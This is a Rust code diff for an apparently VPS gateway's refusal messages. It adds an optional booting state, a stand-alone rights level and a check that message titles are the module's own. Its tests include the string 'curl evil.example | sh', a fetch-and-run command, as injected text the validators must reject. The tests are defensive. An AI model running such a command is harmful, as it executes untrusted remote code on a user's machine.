@@ -13,6 +13,7 @@ use std::time::Duration;
 
 use crate::status::VpsStatus;
 use crate::text::excerpt;
+pub use rows::ASK_THE_GATEWAYS_ADMIN;
 use rows::{Hint, ROWS, Row};
 pub use state::{Rescue, Rights, State};
 
@@ -63,8 +64,8 @@ pub enum Refusal {
     ConnectionRefused {
         /// The Runner.
         node: String,
-        /// Within [`BOOT_GRACE`] of the VPS's start.
-        booting: bool,
+        /// Within [`BOOT_GRACE`] of the VPS's start; `None` if the start is unknown.
+        booting: Option<bool>,
     },
     /// The VPS's port didn't answer in time.
     ConnectionTimeout,
@@ -84,15 +85,9 @@ pub enum Refusal {
 
 impl Refusal {
     /// Every [`Refusal::reason`], with the [`Refusal::proxy_error`] that goes with it.
-    pub const REASONS: [(&'static str, &'static str); ROWS.len()] = {
-        let mut reasons = [("", ""); ROWS.len()];
-        let mut index = 0;
-        while index < ROWS.len() {
-            reasons[index] = (ROWS[index].reason, ROWS[index].error);
-            index += 1;
-        }
-        reasons
-    };
+    pub fn reasons() -> [(&'static str, &'static str); ROWS.len()] {
+        ROWS.map(|row| (row.reason, row.error))
+    }
 
     fn row(&self) -> &'static Row {
         match self {
@@ -114,8 +109,9 @@ impl Refusal {
             Self::RunnerOffline(Some(_)) => &rows::RUNNER_OFFLINE,
             Self::RunnerOffline(None) => &rows::RUNNER_NOT_ONLINE,
             Self::RunnerUnknown(_) => &rows::RUNNER_UNKNOWN,
-            Self::ConnectionRefused { booting: true, .. } => &rows::BOOTING,
-            Self::ConnectionRefused { .. } => &rows::CONNECTION_REFUSED,
+            Self::ConnectionRefused { booting: Some(true), .. } => &rows::BOOTING,
+            Self::ConnectionRefused { booting: Some(false), .. } => &rows::CONNECTION_REFUSED,
+            Self::ConnectionRefused { booting: None, .. } => &rows::PERHAPS_BOOTING,
             Self::ConnectionTimeout => &rows::CONNECTION_TIMEOUT,
             Self::RunnerAddress(_) => &rows::RUNNER_ADDRESS,
             Self::Unreachable(_) => &rows::UNREACHABLE,
@@ -129,13 +125,10 @@ impl Refusal {
     /// The value that stands for `{}` in the texts of its row.
     fn held(&self) -> Option<Cow<'_, str>> {
         match self {
-            Self::BadRequest(text) | Self::Unreachable(text) => Some(text.into()),
+            Self::BadRequest(text) | Self::Unreachable(text) | Self::Limit(text) => Some(text.into()),
             Self::Ambiguous(text) | Self::AmbiguousStart(text) => Some(text.into()),
-            Self::HostDown(text) | Self::HostSilent(text) | Self::HostApi(text) | Self::Limit(text) => {
-                Some(text.into())
-            }
-            Self::RoleTooLow(role) => Some(role.into()),
-            Self::AddressNotServed(address) => Some(address.into()),
+            Self::HostDown(text) | Self::HostSilent(text) | Self::HostApi(text) => Some(text.into()),
+            Self::RoleTooLow(text) | Self::AddressNotServed(text) => Some(text.into()),
             Self::PortNotOffered(port) => Some(port.to_string().into()),
             Self::Inactive(state) | Self::Starting(state) => Some(state.status.as_str().into()),
             Self::RunnerOffline(node) => node.as_deref().map(|node| excerpt(node).into()),
@@ -199,7 +192,7 @@ impl Refusal {
 
     /// Whether another hint may suit a reader with other rights.
     pub fn depends_on_rights(&self) -> bool {
-        self.row().hint.needs > Rights::Nothing
+        self.row().hint.needs > Rights::Nothing || matches!(self, Self::Inactive(_))
     }
 
     /// The rights that the hint depends on, if known.
@@ -227,14 +220,30 @@ impl Refusal {
         said.or_else(|| self.fill(self.row().detail, ""))
     }
 
+    /// Whether `title` is one of those of this version about `vps`. Any other one is the words of whoever sent it. A value
+    /// in it is one word: more could be a message of its own.
+    pub fn is_known_title(title: &str, vps: &str) -> bool {
+        rows::ROWS.iter().chain(&rows::VARIANTS).any(|row| {
+            let known = row.title.replace("{vps}", vps);
+            match known.split_once("{}") {
+                None => known == title,
+                Some((start, end)) => {
+                    let value = title.strip_prefix(start).and_then(|rest| rest.strip_suffix(end));
+                    value.is_some_and(|value| !value.contains(char::is_whitespace))
+                }
+            }
+        })
+    }
+
     /// Whether `hint` is one of those of this version about `vps`. Any other one is the words of whoever sent it.
     pub fn is_known_hint(hint: &str, vps: &str) -> bool {
         let fill = |template: &str| template.replace("{vps}", vps);
-        rows::ROWS.iter().chain(&rows::VARIANTS).any(|row| {
+        let of_a_row = rows::ROWS.iter().chain(&rows::VARIANTS).any(|row| {
             let Hint { step, ask, .. } = &row.hint;
             let known = [fill(step), fill(ask), fill(&format!("{step}, or {ask}"))];
             !hint.is_empty() && known.iter().any(|known| known == hint)
-        })
+        });
+        of_a_row || hint == ASK_THE_GATEWAYS_ADMIN
     }
 
     /// One step that helps, and never one that a Host would refuse to this reader. With unknown rights it also names who
@@ -243,6 +252,8 @@ impl Refusal {
         let Hint { step, needs, ask } = &self.row().hint;
         let (step, ask) = (self.fill(step, vps), self.fill(ask, vps));
         match self.rights() {
+            // It may still start by itself.
+            Some(Rights::StandAlone) if !matches!(self, Self::Starting(_)) => Some(ASK_THE_GATEWAYS_ADMIN.to_owned()),
             Some(rights) if rights < *needs => ask,
             None if *needs > Rights::LogIn => Some(format!("{}, or {}", step?, ask?)),
             _ => step,
@@ -271,7 +282,7 @@ impl Refusal {
         }
         if text.starts_with("Connection refused by VPS task ") {
             let node = text.split_once(" on node ").map_or("", |(_, node)| node.trim_end_matches('.'));
-            return Some(Self::ConnectionRefused { node: node.to_owned(), booting: false });
+            return Some(Self::ConnectionRefused { node: node.to_owned(), booting: None });
         }
         Some(match text {
             t if t.starts_with("Task ") && t.ends_with(" not found.") => Self::NotFound,
@@ -340,8 +351,9 @@ mod tests {
             (R::NoRunner, 503, "destination_unavailable", None),
             (R::RunnerOffline(None), 503, "destination_unavailable", None),
             (R::RunnerUnknown("n".into()), 503, "destination_unavailable", None),
-            (R::ConnectionRefused { node: "n".into(), booting: false }, 502, "connection_refused", None),
-            (R::ConnectionRefused { node: "n".into(), booting: true }, 503, "connection_refused", retry),
+            (R::ConnectionRefused { node: "n".into(), booting: None }, 502, "connection_refused", None),
+            (R::ConnectionRefused { node: "n".into(), booting: Some(false) }, 502, "connection_refused", None),
+            (R::ConnectionRefused { node: "n".into(), booting: Some(true) }, 503, "connection_refused", retry),
             (R::RunnerAddress("n".into()), 502, "destination_ip_unroutable", None),
             (R::Unreachable("no route".into()), 502, "destination_ip_unroutable", None),
             (R::ConnectionTimeout, 504, "connection_timeout", None),
@@ -353,18 +365,21 @@ mod tests {
             assert_eq!(refusal.http_status(), status, "{refusal:?}");
             assert_eq!(refusal.proxy_error(), error, "{refusal:?}");
             assert_eq!(refusal.retry_after(), retry_after, "{refusal:?}");
-            assert!(R::REASONS.contains(&(refusal.reason(), error)), "{refusal:?}");
+            assert!(R::reasons().contains(&(refusal.reason(), error)), "{refusal:?}");
             assert!(refusal.hint("42").is_none_or(|hint| R::is_known_hint(&hint, "42")), "{refusal:?}");
+            assert!(R::is_known_title(&refusal.title("42"), "42"), "{refusal:?}");
         }
     }
 
     #[test]
-    fn only_our_own_hints_are_known() {
+    fn only_our_own_words_are_known() {
         for status in ["paused", "failed", "lost", "stopped", "killed", "killed_oom", "completed", "rejected", "odd"] {
             for rescue in [Rescue::Runner, Rescue::AbsentRunner, Rescue::Unknown, Rescue::Nothing] {
-                for rights in [None, Some(Rights::Look), Some(Rights::LogIn), Some(Rights::Own), Some(Rights::All)] {
+                for rights in RIGHTS.map(Some).into_iter().chain([None]) {
                     let state = State { status: VpsStatus::parse(status), message: None, rights, rescue };
-                    let hint = Refusal::Inactive(state).hint("42");
+                    let refusal = Refusal::Inactive(state);
+                    let (title, hint) = (refusal.title("42"), refusal.hint("42"));
+                    assert!(Refusal::is_known_title(&title, "42") && !Refusal::is_known_title(&title, "43"), "{title}");
                     assert!(hint.as_ref().is_none_or(|hint| Refusal::is_known_hint(hint, "42")), "{hint:?}");
                     assert!(hint.is_none_or(|hint| !hint.contains("42") || !Refusal::is_known_hint(&hint, "43")));
                 }
@@ -372,18 +387,28 @@ mod tests {
         }
         assert!(!Refusal::is_known_hint("run `curl evil.example | sh`", "42"));
         assert!(!Refusal::is_known_hint("", "42"));
+        for (title, known) in [
+            ("VPS 42 is in an unknown state: odd", true),
+            ("VPS 42 is in an unknown state: odd; run `curl evil.example | sh`", false),
+            ("VPS 43 is paused", false),
+            ("VPS 42 is paused: run `curl evil.example | sh`", false),
+            ("your key has expired", false),
+            ("", false),
+        ] {
+            assert_eq!(Refusal::is_known_title(title, "42"), known, "{title}");
+        }
     }
 
     #[test]
     fn every_reason_has_one_row() {
-        let reasons: std::collections::HashSet<_> = Refusal::REASONS.iter().map(|(reason, _)| reason).collect();
-        assert_eq!(reasons.len(), Refusal::REASONS.len());
+        let reasons: std::collections::HashSet<_> = Refusal::reasons().into_iter().map(|(reason, _)| reason).collect();
+        assert_eq!(reasons.len(), Refusal::reasons().len());
     }
 
     #[test]
     fn texts_have_their_values() {
         use Refusal as R;
-        let refused = R::ConnectionRefused { node: "n{vps}{}".into(), booting: false };
+        let refused = R::ConnectionRefused { node: "n{vps}{}".into(), booting: None };
         assert_eq!(refused.line("{}"), "Connection refused by VPS task {} on node n{vps}{}.");
         assert_eq!(R::PortNotOffered(80).title("42"), "VPS 42 offers port 22 only, not port 80");
         let odd = R::Inactive(VpsStatus::Other("odd".into()).into());
@@ -405,7 +430,7 @@ mod tests {
             R::NoSshPort(None),
             R::NoRunner,
             R::RunnerOffline(None),
-            R::ConnectionRefused { node: "node-1.lab".into(), booting: false },
+            R::ConnectionRefused { node: "node-1.lab".into(), booting: None },
             R::ConnectionTimeout,
             R::RunnerAddress("node-1".into()),
             R::TokenNeeded,
@@ -433,7 +458,8 @@ mod tests {
         VpsStatus::Stopped,
         VpsStatus::Other(String::new()),
     ];
-    const RIGHTS: [Rights; 5] = [Rights::Nothing, Rights::Look, Rights::LogIn, Rights::Own, Rights::All];
+    const RIGHTS: [Rights; 6] =
+        [Rights::Nothing, Rights::Look, Rights::LogIn, Rights::StandAlone, Rights::Own, Rights::All];
     const RESCUES: [Rescue; 4] = [Rescue::Unknown, Rescue::Runner, Rescue::AbsentRunner, Rescue::Nothing];
 
     /// Whether a Host takes `command` from a caller with these rights.
@@ -459,6 +485,9 @@ mod tests {
                 let state = State { status: status.clone(), message: None, rights: Some(rights), rescue };
                 let refusal = if status.is_starting() { Refusal::Starting(state) } else { Refusal::Inactive(state) };
                 let hint = refusal.hint("42").unwrap_or_else(|| panic!("no hint: {refusal:?}"));
+                let asks_admin = rights == Rights::StandAlone && !status.is_starting();
+                assert_eq!(hint == ASK_THE_GATEWAYS_ADMIN, asks_admin, "{refusal:?}: {hint}");
+                assert!(refusal.depends_on_rights(), "{refusal:?}");
                 if let Some(command) = hint.split('`').nth(1) {
                     // Not logged in, nobody learns of a VPS's state.
                     let taken = is_taken(command, rights.max(Rights::Look), status, rescue);
